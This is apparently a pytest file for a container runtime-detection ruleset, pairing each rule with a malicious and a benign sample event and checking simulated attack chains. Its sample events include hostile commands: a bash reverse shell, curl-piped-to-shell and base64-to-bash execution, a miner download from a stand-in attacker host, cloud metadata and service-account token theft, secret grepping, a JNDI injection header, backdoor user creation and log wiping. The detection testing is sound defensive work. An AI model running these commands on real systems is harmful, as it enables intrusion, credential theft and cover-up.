"""mamori's MAM-RT rules (src/mamori/rules_data/mamori_rules.yaml): one positive and one negative
event per rule, the tags every RT rule carries, first-match order on the simulation's process
chains, benign commands raise nothing, and every catalog scenario's runtime detection exists."""

from __future__ import annotations

import re

import pytest
from tests.conftest import SHARED, unavailable
from tests.rules.rt_events import CONTAINER, connect, container, exec_, open_

from mamori.core.events import Event
from mamori.rules.engine import load_ruleset_texts
from mamori.rules.ruleset import RuleMatching, Ruleset
from mamori.sensor.correlate import MINING_RULE, RECON_RULE, SCAN_RULE, stateful_detectors
from mamori.sensor.rules_detector import DEFAULT_RULES, load_rules

# The hash lists ship empty: a later file appends a feed (here one test hash per list).
MALWARE_SHA = "5" * 64
DDOS_SHA = "d" * 64
FEED = f"""
- list: mamori_malware_sha256
  items: ["{MALWARE_SHA}"]
  override: {{items: append}}
- list: mamori_ddos_toolkit_sha256
  items: ["{DDOS_SHA}"]
  override: {{items: append}}
"""
_LOADED = load_ruleset_texts(
    [(str(DEFAULT_RULES), DEFAULT_RULES.read_text()), ("feed.yaml", FEED)], RuleMatching.ALL
)
_LOADED.raise_for_errors()
ALL = _LOADED.ruleset
FIRST = load_rules([DEFAULT_RULES], RuleMatching.FIRST)
CATALOG = SHARED / "design" / "detections-catalog.md"

WEB = ("php-fpm", "containerd-shim")  # a process started by the web tier
SHELL_UNDER_WEB = ("sh", "php-fpm", "containerd-shim")  # started by the web shell's sh -c
SCRIPT = ("bash", "sh", "php-fpm")  # a command of the decoded script (bash, under sh -c)
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
TOKEN_RESOLVED = "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_22_10_00_00.1/token"
W = ("O_WRONLY", "O_CREAT", "O_TRUNC")

# (rule, positive event, negative event): the negative is the nearest benign look-alike.
CASES: list[tuple[str, Event, Event]] = [
    ("Mamori test alert", exec_("/tmp/mamori-test-alert hi"), exec_("/bin/echo hi")),
    ("Malware execution", exec_("/tmp/tool", extra={"mamori.drift.sha256": MALWARE_SHA}),
     exec_("/tmp/tool", extra={"mamori.drift.sha256": "0" * 64})),
    ("DDoS toolkit indicators", exec_("/tmp/x", extra={"mamori.drift.sha256": DDOS_SHA}),
     exec_("/usr/sbin/hping3 -c 1 10.0.0.1")),
    ("Behavior similar to common Linux bots", exec_("/dev/shm/.x/run"), exec_("/tmp/run")),
    ("Uncommon connection attempt through a proxy",
     exec_("curl --socks5 127.0.0.1:9050 http://x/"), exec_("curl --proxy http://proxy:3128 x")),
    ("Connection through a SOCKS proxy",
     connect("203.0.113.7", 443, "curl -x socks5h://127.0.0.1:9050 https://x/"),
     connect("203.0.113.7", 443, "curl https://x/")),
    ("Suspicious request to the Kubernetes dashboard",
     exec_("curl -k https://kubernetes-dashboard.kubernetes-dashboard/api/v1/login"),
     exec_("curl -k https://grafana.monitoring/api/health")),
    ("Kubernetes CPU optimization", exec_("/sbin/modprobe msr allow_writes=on"),
     exec_("/sbin/modprobe overlay")),
    ("Kubernetes CPU optimization file write",
     open_("/proc/sys/vm/nr_hugepages", W, "sh"), open_("/proc/sys/vm/nr_hugepages")),
    ("Crypto miner process", exec_("./xmrig --version"), exec_("./xmllint --version")),
    ("Crypto miner arguments", exec_("./kworker -o stratum+tcp://pool:3333 --donate-level 1"),
     exec_("./kworker -o tcp://db:5432")),
    ("Crypto miner download", exec_("curl -sO http://mamori-sim-attacker/xmrig"),
     exec_("curl -sO http://mamori-sim-attacker/index.html")),
    ("Communication with a threat-intelligence domain",
     exec_(["curl", "-s", "-m", "10", "-X", "POST", "http://ti-test.mamori.invalid/?SendingData"]),
     exec_("curl -s http://example.invalid/")),
    ("Connection to a threat-intelligence address", connect("192.0.2.254", 443),
     connect("192.0.2.253", 443)),
    ("Base64 encoded shell script execution",
     exec_(["sh", "-c", "echo ZWNobyBoaQ== | base64 -d | bash"], WEB),
     exec_(["sh", "-c", "echo ZWNobyBoaQ== | base64 -d > /tmp/out"], WEB)),
    ("Download then run", exec_(["sh", "-c", "curl -fsSL http://x/i.sh | sh"], ("bash",)),
     exec_(["sh", "-c", "curl -fsSL http://x/i.sh -o /app/i.sh"], ("bash",))),
    ("Cloud metadata token request",
     exec_(["curl", "-H", "Metadata-Flavor: Google", "http://169.254.169.254/computeMetadata/v1/"
            "instance/service-accounts/default/token"]),
     exec_(["curl", "http://10.0.0.5/computeMetadata/v1/instance/service-accounts/x/token"])),
    ("Cloud metadata token access",
     connect("169.254.169.254", 80, "curl -X PUT http://169.254.169.254/latest/api/token"),
     connect("169.254.169.254", 80, "curl http://169.254.169.254/latest/meta-data/hostname")),
    ("Access to cloud metadata service",
     connect("fd00:ec2::254", 80, "python3 app.py", "SUCCESS"),
     connect("169.254.169.254", 80, "aws-node", "SUCCESS")),
    ("Cloud metadata service request", exec_("wget -qO- http://169.254.169.254/latest/meta-data/"),
     exec_("wget -qO- http://10.1.2.3/latest/meta-data/")),
    ("Service account token read by a shell utility", exec_(f"cat {TOKEN}", SCRIPT),
     exec_("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace", SCRIPT)),
    ("Service account token opened by a shell utility", open_(TOKEN_RESOLVED, by="head"),
     open_(TOKEN_RESOLVED, by="myapp")),
    ("Sensitive file access", exec_("find / -name .git-credentials", SCRIPT),
     exec_("find / -name '*.log'", SCRIPT)),
    ("Sensitive file opened", open_("/home/user/.git-credentials"),
     open_("/home/user/.gitconfig")),
    ("Secret reconnaissance",
     exec_(["grep", "-E", "AWS_SECRET_ACCESS_KEY=|GOOGLE_DEFAULT_CLIENT_SECRET="], SCRIPT),
     exec_(["grep", "-E", "error|warning", "/var/log/app.log"], SCRIPT)),
    ("Process environment read", open_("/proc/1/environ", by="python3"),
     open_("/proc/self/environ", by="python3")),
    ("Process environment read by a shell utility", exec_("cat /proc/1/environ"),
     exec_("cat /proc/self/environ")),
    ("Access to ld.so.preload", open_("/etc/ld.so.preload", ("O_WRONLY", "O_CREAT"), "touch"),
     open_("/etc/ld.so.cache")),
    ("ld.so.preload named on a command line", exec_("touch /etc/ld.so.preload"),
     exec_("touch /etc/ld.so.conf")),
    ("Network scanning tool", exec_("nmap -Pn --open -p 443 kubernetes.default/24"),
     exec_("nc -l -p 8080")),
    ("Suspicious request to the Kubernetes API",
     exec_(["curl", "-k", "-A", "kubectl", "-X", "POST", "https://kubernetes.default/apis/"
            "authorization.k8s.io/v1/selfsubjectaccessreviews"]),
     exec_("curl -k https://api.example.invalid/healthz")),
    ("Connection to the Kubernetes API server", connect("10.96.0.1", 443, "curl -k https://x"),
     connect("10.96.0.1", 443, "myapp")),
    ("Possible attack tool", exec_("/tmp/linpeas -a"), exec_("/usr/bin/lsof -i")),
    ("Possible credential access tool", exec_("python3 /tmp/laZagne.py all"),
     exec_("python3 /app/manage.py migrate")),
    ("Command line exploitation attempt",
     exec_(["curl", "-H", "X-Api-Version: ${jndi:ldap://x/a}", "http://app/"]),
     exec_(["curl", "-H", "X-Api-Version: 2", "http://app/"])),
    ("Potential reverse shell", exec_(["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
     exec_(["bash", "-c", "echo ok > /dev/null"])),
    ("Potential port forwarding", exec_("ssh -N -R 8080:localhost:80 user@203.0.113.5"),
     exec_("ssh user@203.0.113.5 uptime")),
    ("MITRE Caldera agent", exec_("./splunkd -server http://10.0.0.9:8888 -group red"),
     exec_("./splunkd start")),
    ("Suspicious nohup", exec_("nohup /tmp/.x/kdev"), exec_("nohup /usr/bin/python3 app.py")),
    ("Suspicious user addition", exec_("useradd -m backdoor"), exec_("useradd -m app", ("dpkg",))),
    ("Password change using crypt method", exec_("chpasswd -e"), exec_("chpasswd")),
    ("Write to /etc/shadow", open_("/etc/shadow", ("O_WRONLY",), "python3"),
     open_("/etc/shadow", ("O_WRONLY",), "passwd")),
    ("Log tampering", exec_("shred -u /var/log/auth.log"), exec_("shred -u /tmp/x")),
    ("System log truncated", open_("/var/log/wtmp", W, "sh"),
     open_("/var/log/wtmp", ("O_WRONLY", "O_APPEND"), "login")),
    ("Shell history cleared", exec_("ln -sf /dev/null /root/.bash_history"),
     exec_("ln -sf /usr/bin/python3 /usr/bin/python")),
    ("Shell history truncated", open_("/root/.bash_history", W, "bash"),
     open_("/root/.bash_history", ("O_WRONLY", "O_APPEND"), "bash")),
    ("Security process termination", exec_("pkill -9 falco"), exec_("pkill -HUP nginx")),
    ("Access to kubelet kubeconfig", open_("/host/etc/kubernetes/admin.conf"),
     open_("/etc/kubernetes/admin.conf", by="kubelet")),
    ("Kubelet kubeconfig named on a command line", exec_("cat /var/lib/kubelet/kubeconfig"),
     exec_("cat /var/lib/kubelet/config.yaml")),
    ("SSH authorized keys modified", open_("/root/.ssh/authorized_keys", W, "sh"),
     open_("/root/.ssh/authorized_keys", W, "sshd")),
    ("SSH authorized keys read", open_("/root/.ssh/authorized_keys", by="cat"),
     open_("/root/.ssh/known_hosts", by="cat")),
    ("SSH authorized keys named on a command line",
     exec_("tee -a /root/.ssh/authorized_keys"), exec_("tee -a /root/.ssh/known_hosts")),
    ("Suspicious password file access", open_("/etc/shadow", by="python3"),
     open_("/etc/shadow", by="unix_chkpwd")),
    ("Password file named on a command line", exec_("cat /etc/shadow"), exec_("cat /etc/passwd")),
    ("Suspicious file timestamp modification", exec_("touch -r /bin/ls /tmp/x"),
     exec_("touch /tmp/x")),
    ("Suspicious file download", exec_("wget -O /tmp/tool http://x/tool"),
     exec_("wget -O /app/index.html http://x/")),
    ("Command in a privileged container",
     exec_("nsenter -t 1 -m -u -i -n sh", where=container("b", privileged=True)),
     exec_("nsenter -t 1 -m -u -i -n sh", where=container("b"))),
    ("Privileged container started from a shell",
     exec_("docker run --rm --privileged -v /:/host alpine"), exec_("docker run --rm alpine")),
    ("Image build on a node", exec_("docker build -t x .", where=None),
     exec_("docker ps", where=None)),
    ("Attempt to stop apt-daily-upgrade timer",
     exec_("systemctl disable --now apt-daily-upgrade.timer", where=None),
     exec_("systemctl status apt-daily-upgrade.timer", where=None)),
    ("Namespace creation from a container", exec_("unshare -Urm sh"),
     exec_("unshare -Urm sh", where=None)),
    ("SSH server in a container", exec_("/usr/sbin/sshd -D"), exec_("/usr/bin/ssh -V")),
    ("Possible web shell activity", exec_("whoami", WEB), exec_("whoami", ("bash", "sshd"))),
]  # fmt: skip


def _rt_rules(ruleset: Ruleset) -> list[str]:
    return [r.name for r in ruleset.rules if any(t.startswith("mamori.MAM-RT-") for t in r.tags)]


def _names(ruleset: Ruleset, event: Event) -> list[str]:
    return [m.rule.name for m in ruleset.match(event)]


def _ids(ruleset: Ruleset, event: Event) -> set[str]:
    return {t.removeprefix("mamori.") for m in ruleset.match(event) for t in m.rule.tags
            if t.startswith("mamori.MAM-")}  # fmt: skip


def test_every_rt_rule_has_a_case() -> None:
    assert sorted(_rt_rules(ALL)) == sorted({c[0] for c in CASES})


@pytest.mark.parametrize(("rule", "positive", "negative"), CASES, ids=[c[0] for c in CASES])
def test_rule_matches_positive_not_negative(rule: str, positive: Event, negative: Event) -> None:
    assert rule in _names(ALL, positive)
    assert rule not in _names(ALL, negative)


def test_rt_rules_carry_catalog_and_mitre_tags() -> None:
    for rule in ALL.rules:
        ids = [t for t in rule.tags if t.startswith("mamori.MAM-RT-")]
        if not ids:
            continue
        assert len(ids) == 1, rule.name
        assert re.fullmatch(r"mamori\.MAM-RT-\d{3}", ids[0]), rule.name
        assert any(t.startswith("mitre_") for t in rule.tags), rule.name
        assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in rule.tags), rule.name
        assert f"MAM-RT-{ids[0][-3:]}" in rule.desc, rule.name


def test_every_rule_is_indexed_by_event_type() -> None:
    for rule in ALL.rules:
        assert not rule.evttypes.is_all, rule.name


# -- first-match on the simulation's process chains -------------------------------------------

# (event, catalog id first-match must raise): the steps of scenarios S0-S6 as the sensor sees
# them. The web shell runs `sh -c "echo <b64> | base64 -d | bash"` under php-fpm; the decoded
# script's commands are children of that bash.
PAYLOAD = ["sh", "-c", "echo ZWNobyBoaQ== | base64 -d | bash"]
CHAINS: list[tuple[str, Event, str]] = [
    ("S0 test alert", exec_("/tmp/mamori-test-alert hi", ("sh", "runc"),
                            extra={"mamori.drift.verdict": "drift-new"}), "MAM-RT-015"),
    ("web shell sh -c", exec_(PAYLOAD, WEB), "MAM-RT-049"),
    ("web shell base64", exec_("base64 -d", SHELL_UNDER_WEB), "MAM-RT-034"),
    ("web shell bash", exec_("bash", SHELL_UNDER_WEB), "MAM-RT-034"),
    ("S5 whoami", exec_(["sh", "-c", "whoami"], WEB), "MAM-RT-034"),
    ("S1 token", exec_(f"cat {TOKEN}", SCRIPT), "MAM-RT-043"),
    ("S1 token open", open_(TOKEN_RESOLVED), "MAM-RT-043"),
    ("S1 api", exec_(["curl", "-k", "-A", "kubectl", "-H", "Authorization: Bearer x", "-X", "POST",
                      "https://kubernetes.default/apis/authorization.k8s.io/v1/"
                      "selfsubjectaccessreviews"], SCRIPT), "MAM-RT-030"),
    ("S1 nmap", exec_("nmap -Pn --open -p 443 kubernetes.default/24", SCRIPT), "MAM-RT-042"),
    ("S2 gcp", exec_(["curl", "-H", "Metadata-Flavor: Google", "http://169.254.169.254/"
                      "computeMetadata/v1/instance/service-accounts/default/token"], SCRIPT),
     "MAM-RT-038"),
    ("S2 aws", connect("169.254.169.254", 80, "curl -X PUT http://169.254.169.254/latest/api/token"),
     "MAM-RT-038"),
    ("S3 find", exec_("find / -name .git-credentials", SCRIPT), "MAM-RT-044"),
    ("S3 cat", exec_("cat /home/user/.git-credentials", SCRIPT), "MAM-RT-044"),
    ("S3 grep", exec_(["grep", "-E", "AWS_SECRET_ACCESS_KEY=|GOOGLE_DEFAULT_CLIENT_SECRET=|"
                       "AZURE_CREDENTIAL_FILE="], SCRIPT), "MAM-RT-045"),
    ("S4 modprobe", exec_("/sbin/modprobe msr allow_writes=on", SCRIPT), "MAM-RT-046"),
    ("S4 ld.so.preload", exec_("touch /etc/ld.so.preload", SCRIPT), "MAM-RT-047"),
    ("S4 ld.so.preload open", open_("/etc/ld.so.preload", ("O_WRONLY", "O_CREAT"), "touch"),
     "MAM-RT-047"),
    ("S4 download", exec_("curl -sO http://mamori-sim-attacker/xmrig", SCRIPT), "MAM-RT-020"),
    ("S4 run", exec_("./xmrig", SCRIPT, extra={"mamori.drift.verdict": "drift-new"}),
     "MAM-RT-025"),
    ("S6 ti", exec_(["curl", "-s", "-m", "10", "-X", "POST",
                     "http://ti-test.mamori.invalid/?SendingData"], SCRIPT), "MAM-RT-048"),
]  # fmt: skip


@pytest.mark.parametrize(("step", "event", "expected"), CHAINS, ids=[c[0] for c in CHAINS])
def test_first_match_raises_the_scenario_detection(step: str, event: Event, expected: str) -> None:
    assert _ids(FIRST, event) == {expected}


BENIGN: list[Event] = [
    exec_(["sh", "-c", "for i in $(seq 2000); do /bin/true; done"], ("runc",)),
    exec_("seq 2000", ("sh", "runc")),
    exec_("/bin/true", ("sh", "runc")),
    exec_("/bin/ls /", ("runc",)),
    exec_("/bin/cat /etc/passwd", ("runc",)),
    exec_("ps aux", ("containerd-shim",)),
    exec_("env", ("containerd-shim",)),
    exec_("nginx -g daemon off;", ("containerd-shim",)),
    exec_("php-fpm -F", ("containerd-shim",)),
    exec_("curl -fsS http://localhost/healthz", ("containerd-shim",)),
    exec_("python3 -m http.server 80", ("sh", "containerd-shim")),
    open_("/etc/passwd", by="cat"),
    open_("/usr/lib/x86_64-linux-gnu/libc.so.6", by="nginx"),
    open_("/var/log/nginx/access.log", ("O_WRONLY", "O_APPEND", "O_CREAT"), "nginx"),
    connect("10.0.0.12", 5432, "python3 app.py", "SUCCESS"),
]


@pytest.mark.parametrize("event", BENIGN, ids=[str(i) for i in range(len(BENIGN))])
def test_benign_events_raise_nothing(event: Event) -> None:
    assert _rt_ids(event) == set()


def _rt_ids(event: Event) -> set[str]:
    return {i for i in _ids(ALL, event) if i.startswith("MAM-RT-")}


# -- the catalog ---------------------------------------------------------------------------

STATEFUL = {"MAM-RT-012": MINING_RULE, "MAM-RT-035": RECON_RULE, "MAM-RT-042": SCAN_RULE}


def _must_raise() -> set[str]:
    if not CATALOG.is_file():
        unavailable(f"{CATALOG} is missing (the shared design documents)")
    ids: set[str] = set()
    for line in CATALOG.read_text().splitlines():
        cells = [c.strip() for c in line.split("|")]
        if len(cells) > 4 and re.fullmatch(r"S[0-6]", cells[1]):
            ids.update(re.findall(r"RT-\d{3}", cells[4]))
    return {f"MAM-{i}" for i in ids}


def test_every_scenario_runtime_detection_has_a_rule_or_detector() -> None:
    must = _must_raise()
    assert "MAM-RT-015" in must
    assert "MAM-RT-012" in must
    drift = {"MAM-RT-040", "MAM-RT-041"}  # the drift engine's alerts
    rules = {t.removeprefix("mamori.") for r in ALL.rules for t in r.tags}
    detectors = {t.removeprefix("mamori.") for d in stateful_detectors(ALL)
                 for t in getattr(d, "tags", ())}  # fmt: skip
    missing = sorted(must - drift - rules - detectors)
    assert missing == []
    assert set(STATEFUL) <= detectors


def test_existing_rules_keep_their_names() -> None:
    names = {r.name for r in ALL.rules}
    assert {"mamori terminal shell in container", "mamori unexpected outbound connection",
            "mamori privileged container launched",
            "mamori drop and execute new binary in container"} <= names  # fmt: skip


def test_victim_container_identity_in_alert_output() -> None:
    (match,) = FIRST.match(exec_("/tmp/mamori-test-alert hi"))
    text = match.rule.output.render(match.event)
    assert "container_name=victim" in text
    assert "pod=mamori-sim-victim" in text
    assert CONTAINER.image_repository is not None
    assert CONTAINER.image_repository in text


def test_compiled_rules_agree_with_the_reference_evaluator() -> None:
    from mamori.rules.interp import evaluate

    events = [e for _, pos, neg in CASES for e in (pos, neg)] + [e for _, e, _ in CHAINS] + BENIGN
    for event in events:
        expected = [r.name for r in ALL.rules if evaluate(r.expr, event, r.source)]
        assert _names(ALL, event) == expected


@pytest.mark.parametrize(
    ("taken", "fires"),
    [
        (None, True),
        ("alerted", True),
        ("blocked", True),
        ("ignored", False),
        ("allowlisted", False),
    ],
)
def test_drop_and_execute_rule_follows_the_drift_policy(taken: str | None, fires: bool) -> None:
    """The rules-file drift twin defers to the drift engine where it decided: drift the policy
    ignores or allow-lists is not reported twice over; without the engine the rule still fires."""
    from dataclasses import replace

    extra = {"mamori.drift.verdict": "drift-new"}
    if taken is not None:
        extra["mamori.drift.action_taken"] = taken
    event = exec_("/tmp/d/tool", extra=extra)
    assert event.process is not None
    event = replace(event, process=replace(event.process, exe_flags={"upper_layer": True}))
    names = {m.rule.name for m in ALL.match(event)}
    assert ("mamori drop and execute new binary in container" in names) is fires
